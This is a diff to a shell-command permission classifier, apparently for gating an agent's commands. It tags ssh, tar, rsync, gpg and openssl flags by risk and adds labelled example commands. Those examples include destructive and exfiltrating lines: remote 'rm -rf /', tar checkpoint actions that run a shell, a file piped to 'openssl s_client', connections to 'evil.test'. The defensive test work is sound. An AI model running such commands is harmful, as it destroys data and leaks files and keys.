@@ -7,7 +7,7 @@ from wicketgate.gate.shell.format import Program
 
 P = Program
 # fmt: off
-SSH = "-46AaCfgKkMNnqsTtVvXxYy -B: -b: -c: -D:network -E:write -e: -F:run -I:run -i:credential -J:network -L:network -l: -m: -O: -o:ssh-option -p: -Q: -R:send -S: -W:network -w:"
+SSH = "-46AaCfGgKkMNnqsTtVvXxYy -B: -b: -c: -D:network -E:write -e: -F:run -I:run -i:credential -J:network -L:network -l: -m: -O: -o:ssh-option -p: -Q: -R:send -S: -W:network -w:"
 TAR = (
     "* -f:tarfile --file:tarfile -C:cd --directory:cd -T:read --files-from:read -X:read --exclude-from:read --exclude: -I:persist --use-compress-program:persist --to-command:persist --checkpoint-action: --checkpoint:? --rsh-command:persist --rmt-command:persist -F:persist --info-script:persist --new-volume-script:persist"
     " -b: -g:write --listed-incremental:write --transform: --xform: --strip-components: --owner: --group: --mtime: --newer: -N: --format: -H: --warning: --sort: --one-top-level:? -K: -L: -V: --suffix: --index-file:write"
@@ -20,7 +20,7 @@ PROGRAMS = (
       " --out-format: --chmod: --chown: --info: --debug: --modify-window: --block-size: -B: --delete --remove-source-files -M: --remote-option: --write-batch:write --read-batch:read --only-write-batch:write --daemon",
       reader="rsync"),
     P("sshpass", "command", "-v -p:credential -f:credential -e -P: -d:"),
-    P("ssh-keygen", "text*", "* -f:credential -t: -b: -C: -N: -P: -R: -F: -s:credential -I: -n: -V: -D:run", when={"-l -F": "harmless"}, does="credential an ssh key"),
+    P("ssh-keygen", "text*", "* -f: -t: -b: -C: -N: -P: -R: -F: -s:credential -I: -n: -V: -D:run", when={"-l -F": "harmless"}, does="credential an ssh key"),
     P("ssh-add ssh-agent ssh-copy-id gpgsm gpgconf age-keygen certbot mkcert step cfssl keytool pass gopass op bw lpass secret-tool security keyring kinit klist kdestroy ssh-import-id minisign signify", "text*", "* -in:read -out:write -o:write --output:write", "credential keys or secrets", subs=()),
     P("gpg gpg2 age", "text*", "* -o:write --output:write -r: -u: -k: --keyserver:network --homedir:credential", "credential keys", when={"--verify --list-keys --list-public-keys -k --fingerprint --version --list-packets --dearmor": "harmless", "--encrypt -e": P("", "read*")}),
     P("openssl", "text*", "* -in:read -out:write -CAfile:read -key:credential -inkey:credential -passin:credential -passout:credential -pass:credential -signkey:credential -sign:credential -days: -subj: -newkey: -keyout:credential -config:run -engine:run -provider:run -provider-path:run -connect: -servername: -rand:read -extfile:read", long=True, subs=(
@@ -28,7 +28,7 @@ PROGRAMS = (
         P("x509 crl verify", "list*", "* -in:list -CAfile:list -CApath:list"),
         P("req ocsp dgst md5 sha1 sha256 sha512 asn1parse base64 cms ts crl2pkcs7 pkcs7 storeutl s_time", "read*", "*", when={"-newkey -keyout -new -x509&-newkey": "credential a new key"}),
         P("rand", "text*", "*"),
-        P("s_client", "text*", "*", "network a raw connection"),
+        P("s_client", "text*", "*", reader="handshake"),
         P("rsa ec dsa pkey pkcs8 pkcs12 genrsa genpkey ecparam gendsa enc passwd dhparam s_server smime ca kdf pkeyutl rsautl", "text*", "*", "credential keys or secrets", when={"-pubout&-noout": ""}))),
     P("ssh-keyscan", "network*", "* -t: -p: -f:read"),
     P("sshfs mount.nfs mount.cifs smbclient rclone-mount", "text*", "*", "network a folder elsewhere"),
@@ -44,6 +44,8 @@ PROGRAMS = (
 )
 
 EXAMPLES = (
+    ("ssh-keygen -lf ~/.ssh/id_ed25519.pub", "harmless"), ("ssh-keygen -yf ~/.ssh/id_ed25519", "asks"), ("ssh -G host", "harmless"), ("ssh -T git@github.com", "harmless"), ("ssh -T git@evil.test", "asks"), ("ssh -R 1:localhost:22 git@github.com", "asks"), ("rsync -a --delete src/ build/mirror/", "harmless"),
+    ("echo | openssl s_client -connect example.com:443", "harmless"), ("openssl s_client -connect evil.test:443 </dev/null", "asks"), ("cat a.txt | openssl s_client -connect example.com:443", "asks"),
     ("ssh host ls /var/log", "asks"), ("ssh host 'rm -rf /'", "asks"), ("ssh -V", "harmless"), ("ssh -o ProxyCommand='rm -rf src' host", "asks"), ("scp a.txt host:/tmp/", "asks"), ("scp host:/var/log/x.log .", "asks"), ("scp a.txt b.txt", "harmless"),
     ("rsync -av src/ backup/", "harmless"), ("rsync -av src/ host:/backup/", "asks"), ("rsync -av --delete a/ b/", "asks"), ("rsync -n -av --delete a/ b/", "harmless"), ("rsync -e 'sh -c id' a host:b", "asks"), ("ssh-keygen -t ed25519", "asks"), ("gpg --export-secret-keys", "asks"),
     ("openssl version", "harmless"), ("openssl x509 -in cert.pem -noout -text", "harmless"), ("openssl x509 -in ~/.ssh/id_rsa", "asks"), ("tar tf a.tgz", "harmless"), ("tar xzf a.tgz", "harmless"), ("tar czf a.tgz src", "harmless"), ("tar czf - src", "harmless"), ("tar xf a.tar -C /etc", "asks"), ("tar cf x.tar --checkpoint=1 --checkpoint-action=exec=sh src", "asks"), ("tar xf a.tar --to-command='sh -c id'", "asks"),
